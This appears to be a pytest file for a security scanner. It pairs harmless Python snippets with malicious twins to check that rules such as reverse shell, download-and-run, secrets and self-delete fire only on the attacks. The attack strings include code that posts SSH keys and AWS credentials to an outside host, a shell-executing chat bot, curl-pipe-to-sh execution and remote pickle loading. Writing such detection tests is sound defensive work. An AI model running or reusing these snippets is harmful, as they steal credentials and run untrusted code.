"""Honest Python that has the words of an attack: each beside the attack that it must not hide."""

import pytest

from core.findings import Level
from tests.core.scanning.examining import levels, look_at

CLICK = """
import click, subprocess
@click.group()
def cli(): pass
@cli.command()
@click.argument('rest', nargs=-1)
def run(rest): subprocess.run(list(rest), check=True)
"""
BOT = """
import subprocess
from discord.ext import commands
bot = commands.Bot('!')
@bot.command()
async def run(ctx, *, rest): subprocess.run(rest, shell=True)
"""
TOLD = """
import subprocess
def start(program):
    try:
        return subprocess.Popen([program])
    except FileNotFoundError as problem:
        how = ('Install the runtime:\\n'
               '> curl -fsSL https://runtime.example/install.sh | sh\\n')
        raise RuntimeError(how) from problem
"""
DONE = """
import subprocess
def start(program):
    subprocess.Popen([program])
    how = ['curl -fsSL https://runtime.example/install.sh | sh']
    subprocess.run(how, shell=True)
"""
UNPACKED = """
import subprocess, wget
subprocess.check_call(['tar', 'xf', wget.download('https://data.example/talks.tar')])
"""
STARTED = """
import subprocess, wget
subprocess.check_call(['sh', wget.download('https://data.example/talks.sh')])
"""
BADGE = """
import subprocess, gradio as gr
subprocess.call(['ffmpeg', '-version'])
gr.Markdown('<a href="https://huggingface.co/spaces/x"><img src="https://bit.ly/3gLdBN6" alt="Duplicate"></a>')
"""
BEACON = """
import subprocess, os
subprocess.call(['ffmpeg', '-version'])
os.system('curl https://bit.ly/3gLdBN6')
"""
WIDE_TABLE = 'class Ant:\n    """\n    | name {0} | type {0} | meaning of it |\n    """\n    legs = 4\n'.format(
    " " * 90
)
FAR_RIGHT = "legs = 4{};import os\n".format(" " * 140)
OWN_FOLDER = """
from pathlib import Path
import subprocess
data = {}
data['root'] = Path(__file__).resolve()
subprocess.run(['git', 'tag'])
Path(data.get('archive')).unlink()
"""
OWN_FILE = """
from pathlib import Path
import subprocess
subprocess.run(['git', 'tag'])
Path(__file__).resolve().unlink()
"""
SSH_HELP = "examples = ['host ssh <job> -i ~/.ssh/id_ed25519']\nimport requests\nrequests.get('https://a.example')\n"
SSH_READ = "key = open('/home/me/.ssh/id_ed25519').read()\nimport requests\nrequests.post('https://a.example', key)\n"
PROFILE_HELP = """
import requests
class Endpoint:
    profile: str = None
    \"\"\"The name of the profile in ~/.aws/credentials.\"\"\"
requests.get('https://a.example')
"""
PROFILE_READ = """
import requests, pathlib
requests.post('https://a.example', data=pathlib.Path('/home/me/.aws/credentials').read_text())
"""
UNQUOTED = """
import requests, urllib.parse
requests.get('https://' + urllib.parse.unquote('host.example'))
"""
QUOTED = """
import requests, urllib.parse
requests.get('https://' + urllib.parse.unquote('%68%6f%73%74.example'))
"""
GREETING = """
import socket, struct
with socket.create_connection(('database.example', 5432)) as line:
    line.sendall(struct.pack('!ii', 8, 80877103))
"""
HIDDEN_GREETING = """
import socket, base64
with socket.create_connection(('database.example', 5432)) as line:
    line.sendall(base64.b64decode('R0VUIC9jb21tYW5k'))
"""
MODEL_OF_THE_HUB = """
import joblib, pickle
from huggingface_hub import hf_hub_download
model = joblib.load(hf_hub_download('some-one/forest', 'model.joblib'))
with open(hf_hub_download('some-one/forest', 'labels.pkl'), 'rb') as file:
    labels = pickle.load(file)
"""
PICKLE_OF_A_STRANGER = """
import pickle, requests
model = pickle.loads(requests.get('https://models.example/model.pkl').content)
"""


@pytest.mark.parametrize(
    ("honest", "attack", "rule"),
    [
        (CLICK, BOT, "code-reverse-shell"),
        (TOLD, DONE, "code-download-and-run"),
        (UNPACKED, STARTED, "code-download-and-run"),
        (BADGE, BEACON, "code-odd-address"),
        (WIDE_TABLE, FAR_RIGHT, "code-far-right"),
        (OWN_FOLDER, OWN_FILE, "code-self-delete"),
        (SSH_HELP, SSH_READ, "code-secrets"),
        (PROFILE_HELP, PROFILE_READ, "code-secrets"),
        (UNQUOTED, QUOTED, "code-hidden-text"),
        (MODEL_OF_THE_HUB, PICKLE_OF_A_STRANGER, "code-download-and-run"),
        (GREETING, HIDDEN_GREETING, "code-hidden-text"),
    ],
)
def test_the_honest_twin_is_left_alone(honest: str, attack: str, rule: str) -> None:
    seen = levels(look_at("tool.py", honest))
    assert seen.get(rule, Level.NOTE) is Level.NOTE
    assert Level.HIGH not in seen.values()
    assert rule in levels(look_at("tool.py", attack))
